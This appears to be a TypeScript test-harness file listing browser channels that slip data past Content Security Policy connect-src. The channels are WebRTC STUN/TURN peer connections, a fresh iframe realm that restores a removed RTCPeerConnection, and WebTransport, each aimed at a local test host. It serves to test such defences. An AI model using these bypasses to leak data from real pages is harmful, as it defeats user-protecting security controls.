import type { Channel } from "./channel.ts";

/** Peer connections and datagrams, which `connect-src` does not speak about. */
export const PEERS: readonly Channel[] = [
  {
    id: "rtc_stun_udp",
    family: "peer",
    entry: 13,
    attack: async (t) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${t.udp}` }] });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    id: "rtc_stun_dns",
    family: "peer",
    entry: 15,
    attack: async (t) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${t.host}:${t.udp}` }] });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    id: "rtc_turn_tcp",
    family: "peer",
    entry: 14,
    attack: async (t) => {
      const urls = `turn:127.0.0.1:${t.tcp}?transport=tcp`;
      const peer = new RTCPeerConnection({
        iceServers: [{ urls, username: "secret", credential: "any" }],
      });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    // A page that took the constructor away would find it again in a fresh realm.
    id: "rtc_nested_realm",
    family: "peer",
    entry: 16,
    attack: async (t) => {
      const realm = t.element("iframe", {}).contentWindow as (Window & typeof globalThis) | null;
      if (!realm) return;
      const peer = new realm.RTCPeerConnection({
        iceServers: [{ urls: `stun:127.0.0.1:${t.udp}` }],
      });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    id: "webtransport",
    family: "peer",
    entry: 4,
    attack: (t) => new WebTransport(`https://${t.host}:${t.udp}/secret`).ready,
  },
];
